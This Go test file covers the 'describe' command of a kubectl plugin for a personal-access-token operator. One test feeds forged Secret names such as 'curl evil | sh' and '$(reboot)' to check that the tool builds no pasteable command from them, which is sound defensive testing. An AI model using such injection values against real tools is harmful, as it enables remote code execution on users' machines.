/*
Copyright 2026 The pat-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package app

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/pat-operator/pat-operator/api/v1alpha1"
	"github.com/pat-operator/pat-operator/internal/lifecycle"
)

// rich is a resource with all fields.
func rich() *v1alpha1.PersonalAccessToken {
	pat := withConditions(3, isReady, isActive)
	pat.CreationTimestamp = *after(-40 * day)
	pat.Status.ObservedGeneration = 3
	pat.Spec = v1alpha1.PersonalAccessTokenSpec{
		DisplayName: "CI\x1b[2J",
		User: &v1alpha1.UserInfo{
			Username: "alice", UID: "u-1", Groups: []string{"developers", "qa\u202e"},
			Extra: map[string]v1alpha1.ExtraValue{"b": {"2"}, "a": {"1", "one\t"}},
		},
		Audiences: []string{"a", "b"},
		From:      []string{"203.0.113.0/24", "2001:db8::/32"},
		Scopes: []v1alpha1.Scope{{Preset: "read-only"}, {Rule: &v1alpha1.ScopeRule{
			Verbs: []string{"get", "list"}, APIGroups: []string{"", "apps"}, Resources: []string{"pods"},
		}, Namespaces: []string{"team-a"}}, {Rule: &v1alpha1.ScopeRule{Verbs: []string{"get"}, NonResourceURLs: []string{"/version"}}}},
		Rotation: &v1alpha1.Rotation{Trigger: "2", OverlapSeconds: 7200, EveryDays: ptr.To[int32](30), RetireOnFirstUse: true},
		Delivery: &v1alpha1.Delivery{Recipients: []string{"age1x", "age1y"}},
	}
	pat.Status.TokenID, pat.Status.PreviousTokenID = "bbbbbbbbbbbbbbbb", "aaaaaaaaaaaaaaaa"
	pat.Status.IssuedAt, pat.Status.ModifiedAt, pat.Status.ExpiresAt = after(-time.Hour), after(-2*time.Hour), after(30*day)
	pat.Status.FirstUsedAt, pat.Status.LastUsedAt = after(-30*time.Minute), after(-time.Minute)
	pat.Status.EncryptedToken, pat.Status.PreviousTokenExpiresAt = "sealed", after(time.Hour)
	pat.Status.Revoked = []v1alpha1.RevokedToken{{TokenID: "cccccccccccccccc", At: after(-day), By: "bob", Reason: "on a slide"}, {TokenID: "dddddddddddddddd"}}
	pat.Status.Conditions[1].Message = "Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it."
	pat.Status.Conditions[1].LastTransitionTime = *after(-time.Hour)
	pat.Status.Conditions[0].Message = "Done."
	return pat
}

func TestDescribe(t *testing.T) {
	events := []corev1.Event{
		{Type: "Normal", Reason: "Issued", Message: "Token \x1b[31m", EventTime: metav1.MicroTime{Time: start.Add(-time.Hour)}},
		{Type: "Warning", Reason: "ExpiringSoon", Message: "Soon.", LastTimestamp: *after(-time.Minute), Count: 3},
	}
	want := `Name:            ci
Namespace:       team-a
Display Name:    CI\x1b[2J
User:            alice
  UID:           u-1
  Groups:        developers
                 qa\u202e
  Extra:         a=1,one\t
                 b=2
Token ID:        bbbbbbbbbbbbbbbb
Predecessor:     aaaaaaaaaaaaaaaa
  Ends:          2026-11-24T13:00:00Z (in 60m)
Made By:         the operator, which encrypts it
  To:            age1x
                 age1y
  Open It With:  kubectl pat decrypt ci -n team-a -i KEYFILE
Status:          Active
                 Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
Suspended:       no
Created:         2026-10-15T12:00:00Z (40d ago)
Issued:          2026-11-24T11:00:00Z (60m ago)
Modified:        2026-11-24T10:00:00Z (120m ago)
Expires:         2026-12-24T12:00:00Z (in 30d)
First Used:      2026-11-24T11:30:00Z (30m ago)
Last Used:       2026-11-24T11:59:00Z (60s ago)
Audiences:       a
                 b
Scopes:          read-only
                 get,list pods,pods.apps -n team-a
                 get /version
From:            203.0.113.0/24
                 2001:db8::/32
Rotation:        requested by trigger 2
                 every 30 days
                 a predecessor keeps working for 120m
                 a predecessor ends when its successor is first used
Revoked:         cccccccccccccccc at 2026-11-23T12:00:00Z (24h ago) by bob: on a slide
                 dddddddddddddddd
Conditions:
  Type    Status  Reason      Since    Message
  ----    ------  ------      -----    -------
  Ready   True    Reconciled  unknown  Done.
  Active  True    Active      60m      Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
Events:
  Type     Reason        Age       Message
  ----     ------        ---       -------
  Normal   Issued        60m       Token \x1b[31m
  Warning  ExpiringSoon  60s (x3)  Soon.
`
	got := describe(rich(), events, true, start)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if strings.Contains(got, " \n") {
		t.Error("a line ends with a space")
	}
}

func TestDescribeSaysWhyAndWhatToDo(t *testing.T) {
	suspended := metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonSuspended, Message: "Resume it."}
	waiting := metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonIssuing, Message: "Wait."}
	for name, tc := range map[string]struct {
		pat  *v1alpha1.PersonalAccessToken
		want string
	}{
		"active":        {withConditions(2, isReady, isActive), "Active"},
		"suspended":     {withConditions(2, isReady, suspended), "Suspended|Resume it."},
		"issuing":       {withConditions(2, isIssuing, waiting), "Pending|Wait."},
		"stalled":       {withConditions(2, isStalled, waiting), `Not issued|Wait.|Too many\x1b[31m.`},
		"not looked at": {withConditions(2), "Pending|The operator has not processed it yet; is it running?"},
		"changed":       {func() *v1alpha1.PersonalAccessToken { p := withConditions(2, suspended); p.Generation = 3; return p }(), "Suspended|Resume it.|The operator has not processed the last change yet."},
		"expired": {func() *v1alpha1.PersonalAccessToken {
			p := withConditions(2, metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonExpired, Message: "It has expired."})
			return p
		}(), "Expired|It has expired.|For a new token run: kubectl pat rotate ci -n team-a"},
		"just expired": {func() *v1alpha1.PersonalAccessToken {
			p := withConditions(2, isReady, isActive)
			p.Status.ExpiresAt = after(0)
			return p
		}(), "Expired|The operator has not updated the status yet.|For a new token run: kubectl pat rotate ci -n team-a"},
		"about to be gone": {func() *v1alpha1.PersonalAccessToken {
			p := withConditions(2, isActive)
			p.DeletionTimestamp = after(0)
			return p
		}(), "Deleting|" + lifecycle.DeletingCondition(&v1alpha1.PersonalAccessToken{}).Message},
		"not looked at at all": {func() *v1alpha1.PersonalAccessToken {
			p := withConditions(1)
			p.Status.ObservedGeneration = -1
			return p
		}(), "Pending|The operator has not processed it yet; is it running?"},
	} {
		t.Run(name, func(t *testing.T) {
			if tc.pat.Status.ObservedGeneration == 0 {
				tc.pat.Status.ObservedGeneration = 2
			}
			s := newDescribeWriter()
			describeStatus(s, tc.pat, start)
			var lines []string
			for line := range strings.Lines(strings.TrimPrefix(s.String(), "Status:")) {
				lines = append(lines, strings.TrimSpace(line))
			}
			if got := strings.Join(lines, "|"); got != tc.want {
				t.Errorf("got  %s\nwant %s", got, tc.want)
			}
		})
	}
}

func TestDescribeAnEmptyResource(t *testing.T) {
	pat := &v1alpha1.PersonalAccessToken{ObjectMeta: metav1.ObjectMeta{Name: "new", Namespace: "team-a", CreationTimestamp: *after(-time.Second)}}
	got := describe(pat, nil, false, start)
	for _, want := range []string{"User: nobody yet", "Token ID: none yet", "Issued: not yet", "Expires: 90 days after it is issued", "Last Used: never", "Audiences: the API server", "From: everywhere", "Conditions: <none>"} {
		if !strings.Contains(strings.Join(strings.Fields(got), " "), want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
	if strings.Contains(got, "Events") {
		t.Errorf("events that may not be read:\n%s", got)
	}
	if got = describe(pat, []corev1.Event{}, true, start); !strings.HasSuffix(strings.Join(strings.Fields(got), " "), "Events: <none>") {
		t.Errorf("no events:\n%s", got)
	}
}

func TestDescribeShowsTheLatestEventsOfThisResourceOnly(t *testing.T) {
	pat := rich()
	pat.UID = "uid-1"
	tr := newTrial(t, interceptor.Funcs{List: func(_ context.Context, _ client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
		var o client.ListOptions
		o.ApplyOptions(opts)
		if o.Namespace != "team-a" || o.FieldSelector.String() != "involvedObject.uid=uid-1" {
			return errors.New("too much was asked for")
		}
		events := list.(*corev1.EventList)
		for i := range 30 {
			events.Items = append(events.Items, corev1.Event{Reason: "R", Message: "number " + string(rune('A'+i)), LastTimestamp: *after(-time.Duration(i) * time.Minute)})
		}
		return nil
	}}, pat)
	tr.run(t.Context(), t, exitOK, "describe", "ci", "-n", "team-a")
	if n := strings.Count(tr.out.String(), "number "); n != shownEvents {
		t.Errorf("%d events", n)
	}
	if !strings.HasSuffix(tr.out.String(), "number A\n") {
		t.Errorf("the last event is not the latest:\n%s", tr.out)
	}
}

func TestDescribeSeveralOfWhichSomeAreMissing(t *testing.T) {
	tr := newTrial(t, interceptor.Funcs{}, rich())
	tr.run(t.Context(), t, exitError, "describe", "a", "ci", "b", "-n", "team-a")
	tr.errs(t, `error: personalaccesstokens.pat-operator.io "a" not found in namespace team-a; personalaccesstokens.pat-operator.io "b" not found in namespace team-a`)
	if !strings.Contains(tr.out.String(), "Name:") {
		t.Errorf("the existing one is not described: %s", tr.out)
	}
}

// A user who may write status can put any text there, and people paste commands.
func TestDescribeBuildsNoCommandFromForgedStatus(t *testing.T) {
	for name, want := range map[string]bool{
		"pat-aaaaaaaaaaaaaaaa": true, "pat-aaaaaaaaaaaaaaaa; curl evil | sh": false, "$(reboot)": false, "pat-$(reboot)aaaaaaa": false,
		"aaaaaaaaaaaaaaaa": false, "-A": false, "pat-AAAAAAAAAAAAAAAA": false,
	} {
		pat := withConditions(1, isActive)
		pat.Status.TokenID, pat.Status.DeliverySecretName = "aaaaaaaaaaaaaaaa", name
		text := describe(pat, nil, false, start)
		if got := strings.Contains(text, "kubectl get secret "+name+" -n team-a -o"); got != want || strings.Contains(text, "kubectl get secret") != want {
			t.Errorf("of %q:\n%s", name, text)
		}
		if !strings.Contains(text, "  Secret:") || !strings.Contains(text, " "+name+"\n") {
			t.Errorf("%q is not said:\n%s", name, text)
		}
	}
}

// list -o name | xargs kubectl pat describe
func TestCommandsTakeNamesAsListPrintsThem(t *testing.T) {
	pat, _ := holderMade(t, 7)
	for _, name := range []string{"pat/ci", "personalaccesstoken.pat-operator.io/ci", "ci"} {
		tr := newTrial(t, interceptor.Funcs{}, pat)
		tr.run(t.Context(), t, exitOK, "describe", name, "-n", "team-a")
		if got := tr.out.String(); !strings.HasPrefix(got, "Name:        ci\n") {
			t.Errorf("describe %s: %s", name, got)
		}
		private, _ := agePair(t)
		key := filepath.Join(t.TempDir(), "key")
		if err := os.WriteFile(key, []byte(private), 0o600); err != nil {
			t.Fatal(err)
		}
		tr.run(t.Context(), t, exitError, "decrypt", name, "-n", "team-a", "-i", key)
		tr.errs(t, "error: team-a/ci has no encrypted token: its holder made it, and nobody else has it")
	}
}

// describe does not offer a Secret that is gone. It names the Secret to a user who may not read Secrets.
func TestDescribeOffersNoSecretThatIsGone(t *testing.T) {
	const name = "pat-aaaaaaaaaaaaaaaa"
	pat := withConditions(1, isReady, isActive)
	pat.Status.TokenID, pat.Status.DeliverySecretName = "aaaaaaaaaaaaaaaa", name
	secrets := corev1.SchemeGroupVersion.WithResource("secrets").GroupResource()
	for want, err := range map[string]error{
		"  Secret:        " + name + "\n  Take It With:  kubectl get secret " + name + " -n team-a": nil,
		"  Secret:    gone: the token was taken, or its time ran out\nStatus:":                      apierrors.NewNotFound(secrets, name),
		"  Secret:        " + name + "\n  Take It With:  kubectl get secret ":                       apierrors.NewForbidden(secrets, name, nil),
	} {
		tr := newTrial(t, interceptor.Funcs{Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, o client.Object, opts ...client.GetOption) error {
			if key.Name != name {
				return c.Get(ctx, key, o, opts...)
			}
			if _, whole := o.(*metav1.PartialObjectMetadata); !whole {
				t.Errorf("%T is read", o)
			}
			return err
		}}, pat)
		tr.run(t.Context(), t, exitOK, "describe", "ci", "-n", "team-a")
		if !strings.Contains(tr.out.String(), want) || err != nil && apierrors.IsNotFound(err) && strings.Contains(tr.out.String(), name) {
			t.Errorf("%v: %q is not in\n%s", err, want, tr.out)
		}
	}
}
